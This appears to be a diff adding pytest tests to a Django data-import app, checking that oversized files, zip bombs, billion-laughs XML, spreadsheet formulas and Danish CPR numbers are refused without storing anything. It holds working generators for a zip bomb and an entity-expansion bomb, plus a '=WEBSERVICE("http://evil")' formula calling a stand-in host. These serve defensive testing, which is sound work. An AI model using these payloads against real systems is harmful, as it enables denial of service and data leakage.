@@ -1,0 +1,153 @@
+"""Hostile and broken files: refused with a clear message, nothing stored, nothing run."""
+
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from datasets import importing, services
+from datasets.models import DatasetImport, Observation
+
+
+def xlsx_bytes(rows) -> bytes:
+    wb = openpyxl.Workbook()
+    for row in rows:
+        wb.active.append(row)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def test_oversized_file_is_refused(dataset, write, settings):
+    settings.UPLOAD_MAX_BYTES = 100
+    path = write("big.csv", "Køn;Antal\n" + "K;1\n" * 50)
+    with pytest.raises(importing.FileRefused, match="grænsen er 0,0 MB"):
+        services.import_file(dataset=dataset, path=path)
+
+
+def test_oversized_upload_is_refused_in_the_browser(client, world, dataset, settings):
+    settings.UPLOAD_MAX_BYTES = 1000
+    client.force_login(world.odense.analytiker)
+    file = SimpleUploadedFile("big.csv", b"K;1\n" * 1000)
+    response = client.post(reverse("datasets:dataset_upload", args=[dataset.uuid]), {"file": file})
+    assert response.status_code == 200 and "grænsen er" in response.content.decode()
+    assert not DatasetImport.objects.exists()
+    assert not list(services.staging_dir().iterdir())
+
+
+def zip_bomb() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", "<Types/>")
+        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))  # 60 MB of zeros -> ~60 kB
+    return out.getvalue()
+
+
+def test_zip_bomb_is_refused_before_unpacking(dataset, write, monkeypatch):
+    data = zip_bomb()
+    assert len(data) < 200_000
+    opened = []
+    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: opened.append(1))
+    with pytest.raises(importing.FileRefused, match="zip-bombe"):
+        services.import_file(dataset=dataset, path=write("bomb.xlsx", data))
+    assert not opened  # openpyxl never saw the file
+
+
+def test_too_many_entries_are_refused(dataset, write, settings):
+    settings.DATASETS_XLSX_MAX_ENTRIES = 5
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        for i in range(10):
+            zf.writestr(f"xl/worksheets/sheet{i}.xml", "<x/>")
+    with pytest.raises(importing.FileRefused, match="for mange dele"):
+        services.import_file(dataset=dataset, path=write("many.xlsx", out.getvalue()))
+
+
+def billion_laughs() -> bytes:
+    """A valid workbook whose shared strings declare nested entities."""
+    data = xlsx_bytes([["Køn", "Antal"], ["K", 1]])
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    entities = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
+    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as zf:
+        for item in src.infolist():
+            content = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                text = content.decode()
+                if text.startswith("<?xml"):
+                    head, sep, rest = text.partition("?>")
+                    text = head + sep + entities + rest
+                else:
+                    text = entities + text
+                assert "<v>1</v>" in text
+                content = text.replace("<v>1</v>", "<v>&lol9;</v>").encode()
+            zf.writestr(item, content)
+    return out.getvalue()
+
+
+def test_billion_laughs_is_refused(dataset, write):
+    import defusedxml.ElementTree
+
+    # openpyxl parses with defusedxml, which forbids entity declarations outright.
+    from openpyxl import DEFUSEDXML
+
+    assert DEFUSEDXML is True
+    sheet = zipfile.ZipFile(io.BytesIO(billion_laughs())).read("xl/worksheets/sheet1.xml")
+    with pytest.raises(defusedxml.EntitiesForbidden):
+        defusedxml.ElementTree.fromstring(sheet)
+    with pytest.raises(importing.FileRefused, match="Excel-fil"):
+        services.import_file(dataset=dataset, path=write("lol.xlsx", billion_laughs()))
+    assert not Observation.objects.filter(indicator__dataset=dataset).exists()
+
+
+def test_formulas_are_not_run(dataset, write):
+    # A formula cell has no cached value (never calculated): read as empty, so refused;
+    # openpyxl never evaluates formulas.
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["Indikator", "Køn", "Antal"])
+    ws.append(["Test", "K", "=1+1"])
+    ws.append(["Test", "M", "=WEBSERVICE(\"http://evil\")"])
+    out = io.BytesIO()
+    wb.save(out)
+    with pytest.raises(services.ImportRefused) as info:
+        services.import_file(dataset=dataset, path=write("f.xlsx", out.getvalue()))
+    assert {e["reason"] for e in info.value.errors} == {"Tallet mangler."}
+    assert not Observation.objects.filter(indicator__dataset=dataset).exists()
+
+
+@pytest.mark.parametrize("cpr", ["010203-1234", "0102031234", "311299 1234"])
+def test_cpr_numbers_refuse_the_whole_file_without_echoing_them(dataset, write, cpr):
+    text = f"Løbenr;Køn;Alder;Selvhjulpen\n1;K;65-74;ja\n2;M;65-74;nej\n{cpr};M;75-84;ja\n"
+    with pytest.raises(services.ImportRefused) as info:
+        services.import_file(dataset=dataset, path=write("cpr.csv", text))
+    error = info.value.errors[0]
+    assert (error["row"], error["column"]) == (4, "Løbenr")
+    assert "CPR" in error["reason"]
+    assert cpr not in str(info.value.errors) and cpr[:6] not in str(info.value.errors)
+    assert error["value"] == "XXXXXX-XXXX"
+    assert not Observation.objects.filter(indicator__dataset=dataset).exists()
+
+
+def test_cpr_in_an_ignored_column_of_an_xlsx_is_refused_too(dataset, write):
+    data = xlsx_bytes([["Køn", "Antal", "Note"], ["K", 4, "ok"], ["M", 5, "borger 120345-6789"]])
+    with pytest.raises(services.ImportRefused) as info:
+        services.import_file(dataset=dataset, path=write("cpr.xlsx", data))
+    assert info.value.errors[0]["row"] == 3 and info.value.errors[0]["column"] == "Note"
+    assert "120345" not in str(info.value.errors)
+
+
+def test_ten_digit_numbers_that_are_no_date_are_allowed(dataset, write):
+    services.import_file(dataset=dataset, path=write("ok.csv", "Køn;Antal;Note\nK;4;9913001234\nM;5;x\n"))
+    assert Observation.objects.filter(indicator__dataset=dataset).count() == 2
+
+
+def test_not_a_table(dataset, write):
+    with pytest.raises(importing.FileRefused):
+        services.import_file(dataset=dataset, path=write("x.csv", b"\x00\x01\x02" * 100))
+    with pytest.raises(importing.FileRefused):
+        services.import_file(dataset=dataset, path=write("x.xlsx", b"PK\x03\x04garbage"))
